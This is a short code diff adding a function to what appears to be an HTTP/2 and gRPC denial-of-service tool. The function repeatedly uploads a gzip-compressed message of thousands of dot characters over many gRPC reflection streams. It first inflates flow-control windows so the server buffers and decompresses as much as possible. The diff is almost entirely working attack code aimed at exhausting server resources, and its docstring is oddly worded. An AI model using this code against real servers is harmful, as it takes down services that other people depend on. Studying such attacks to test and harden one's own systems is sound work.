@@ -18,6 +18,18 @@ def stream_of_unread_answers(attack):
             return
 
 
+def symbols_of_dots(attack):
+    """Questions of 50 bytes and without a token, for a name of four thousand parts."""
+    symbol = b"." * 4072
+    question = h2.message(gzip.compress(b"\x22" + varint(len(symbol)) + symbol), compressed=True)
+    connection = attack.connect(values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1})
+    connection.send(h2.window_update(0, 2**30))
+    for stream in range(1, 65, 2):
+        connection.send(h2.open_grpc(stream, REFLECTION, GZIP))
+        if connection.upload(stream, question * 1000, end=False):
+            return
+
+
 def bomb_for(method, attack):
     connection = attack.connect()
     connection.send(h2.open_grpc(1, method, GZIP))
